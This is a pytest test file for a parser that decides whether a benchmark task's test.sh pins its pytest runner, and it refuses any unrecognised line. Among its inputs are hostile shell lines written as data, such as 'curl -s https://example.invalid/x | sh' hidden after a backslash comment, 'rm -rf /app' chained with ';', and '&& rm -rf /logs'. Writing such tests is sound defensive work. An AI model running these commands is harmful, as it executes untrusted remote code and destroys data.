"""Any line the recogniser does not fully account for makes the whole file NotPinned, naming the
line: a false "pinned" would run the tests differently from what the task says."""

from __future__ import annotations

import pytest
from runner_pins_fixtures import STANDARD, fixture_test_sh

from tasks_lib.task.runner_pins import NotPinned, RunnerPins, read_runner_pins

UVX_LINE = "  pytest --ctrf /logs/verifier/ctrf.json /tests/test_outputs.py -rA\n"


def refused(text: str) -> NotPinned:
    verdict = read_runner_pins(text)
    assert isinstance(verdict, NotPinned), "accepted a file it must refuse"
    return verdict


def with_line_before_uvx(line: str) -> str:
    return fixture_test_sh(STANDARD).replace("\nuvx \\\n", f"\n{line}\nuvx \\\n", 1)


@pytest.mark.parametrize(
    ("pattern", "line", "words"),
    [
        ("git_clone_make", 19, "git clone https://example.invalid/tbflow/widget.git"),
        ("git_clone_before_uv", 8, "git clone https://example.invalid/tbflow/scorer.git"),
        ("rm_glob", 19, "rm *.csv"),
        ("variable_git_wheel", 19, "MODEL_REV="),
    ],
)
def test_files_with_extra_setup_are_refused_at_that_line(pattern, line, words):
    verdict = refused(fixture_test_sh(pattern))
    assert verdict.line == line and words in verdict.text
    assert f"line {line}" in str(verdict)


@pytest.mark.parametrize(
    "line",
    [
        "echo hi | tee /tmp/x",  # a pipe
        "X=$(cat /etc/hostname)",  # command substitution
        "echo `id`",  # backquotes
        "echo hi > /tmp/x",  # a redirection other than the reward writes
        "cp /tests/a /app/a; rm -rf /app",  # ;
        "cp /tests/a /app/a &",  # background
        "cp /tests/a /app/a || true",
        "cp /tests/* /app/",  # a glob
        "cp ~/a /app/a",  # tilde
        "cp /tests/a $HOME/a",  # a variable
        "cd ..",  # not an absolute path
        "cd /tests/../etc",
        "set -e",  # changes when the reward gets written
        "export UV_INDEX_URL=https://example.invalid/simple",
        "PYTHONPATH=/app",
        "echo setting up",  # even a harmless echo: unknown is unknown
        "apt-get install curl",  # no -y: would abort without a tty
        "apt-get install -y curl=7.0",  # a version-pinned apt package is not a plain name
        "apt-get -o Debug::X=1 update",
        "apt-get remove -y python3",
        "cat <<EOF",
        "git clone https://example.invalid/x /app/x",
    ],
)
def test_a_line_before_the_test_command_that_is_not_understood_is_refused(line):
    verdict = refused(with_line_before_uvx(line))
    assert verdict.line is not None and verdict.text.startswith(line.split()[0])


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("  -p 3.13 \\\n", ""),  # no -p: whatever Python uvx finds
        ("  -p 3.13 \\\n", "  -p python3 \\\n"),
        ("  -w pytest==8.4.1 \\\n", ""),  # pytest itself floats
        ("  -w pytest==8.4.1 \\\n", "  -w pytest>=8 \\\n"),
        ("  -w pytest==8.4.1 \\\n", "  -w pytest \\\n"),
        ("  -w pytest==8.4.1 \\\n", "  -w pytest[testing]==8.4.1 \\\n"),
        ("  -w pytest==8.4.1 \\\n", "  -w pytest==8.4.1 \\\n  -w pytest==8.4.2 \\\n"),
        ("  -w pytest==8.4.1 \\\n", "  -w git+https://github.com/pytest-dev/pytest@main \\\n"),
        ("  -w pytest==8.4.1 \\\n", "  --index https://example.invalid/simple \\\n  -w pytest==8.4.1 \\\n"),
        ("  -w pytest==8.4.1 \\\n", "  --from pytest==8.4.1 \\\n"),
        (UVX_LINE, "  python -m pytest /tests/test_outputs.py\n"),
        (UVX_LINE, UVX_LINE.rstrip("\n") + " && rm -rf /logs\n"),
        (UVX_LINE, UVX_LINE.rstrip("\n") + " | tee /tmp/out\n"),
        (UVX_LINE, UVX_LINE.rstrip("\n") + " --rootdir=$HOME\n"),
        ("curl -LsSf https://astral.sh/uv/0.9.5/install.sh | sh", "curl -LsSf https://astral.sh/uv/install.sh | sh"),
        ("curl -LsSf https://astral.sh/uv/0.9.5/install.sh | sh", "curl -LsSf https://astral.sh/uv/0.9.5/install.sh | bash -x"),
        ("source $HOME/.local/bin/env\n", ""),  # uvx would not be the installed one
    ],
)
def test_the_test_command_must_pin_everything_it_runs(old, new):
    text = fixture_test_sh(STANDARD)
    assert old in text
    refused(text.replace(old, new, 1))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("  echo 1 > /logs/verifier/reward.txt\n", "  echo 1 > /logs/verifier/reward.json\n"),
        ("  echo 0 > /logs/verifier/reward.txt\n", "  echo 0 >> /logs/verifier/reward.txt\n"),
        ("else\n", "else\n  sleep 1\n"),
        ("\n\nif [ $? -eq 0 ]", "\ncp /tests/a /app/a\nif [ $? -eq 0 ]"),  # $? of something else
        ('    exit 1\n', '    exit 0\n'),  # a working-directory check that writes no reward and exits 0
        ('if [ "$PWD" = "/" ]; then', 'if [ "$PWD" != "/" ]; then'),
    ],
)
def test_the_reward_and_workdir_blocks_are_taken_only_as_written(old, new):
    text = fixture_test_sh(STANDARD)
    assert old in text
    refused(text.replace(old, new, 1))


def test_a_working_directory_check_after_a_cd_is_refused():
    # after 'cd /' the check always exits 1 and no reward is written: not what a runner in / would do
    text = fixture_test_sh(STANDARD).replace("\n# guard", "\ncd /\n# guard", 1)
    assert "after a 'cd'" in refused(text).reason


def test_nothing_may_follow_the_reward_block():
    verdict = refused(fixture_test_sh(STANDARD) + "exit 0\n")
    assert verdict.text == "exit 0" and "after the reward" in verdict.reason


def test_a_comment_ending_in_a_backslash_does_not_hide_the_next_line():
    # bash ends a comment at the newline: the curl line below runs, so it must be read
    text = with_line_before_uvx("# harmless comment \\\ncurl -s https://example.invalid/x | sh")
    verdict = refused(text)
    assert "example.invalid" in verdict.text


def test_a_quote_on_a_continued_line_is_refused():
    # inside quotes bash keeps the backslash-newline, so the joined text would not be what runs
    text = fixture_test_sh(STANDARD).replace("  -w pytest==8.4.1 \\\n", "  -w 'pytest==8.4.\\\n1' \\\n", 1)
    refused(text)


def test_a_shebang_must_be_bash_but_may_be_missing():
    text = fixture_test_sh(STANDARD)
    assert refused(text.replace("#!/bin/bash", "#!/bin/sh", 1)).line == 1
    assert isinstance(read_runner_pins(text.replace("#!/bin/bash", "#!/usr/bin/env bash", 1)), RunnerPins)
    # both Harbor (``bash -c`` running the file) and tbflow (``bash /tests/test.sh``) use bash then
    assert read_runner_pins("# a canary comment\n" + text) == read_runner_pins(text)


def test_set_x_comments_and_blank_lines_are_fine():
    text = with_line_before_uvx("set -x\n# a comment\n\n   # an indented comment")
    assert read_runner_pins(text) == read_runner_pins(fixture_test_sh(STANDARD))
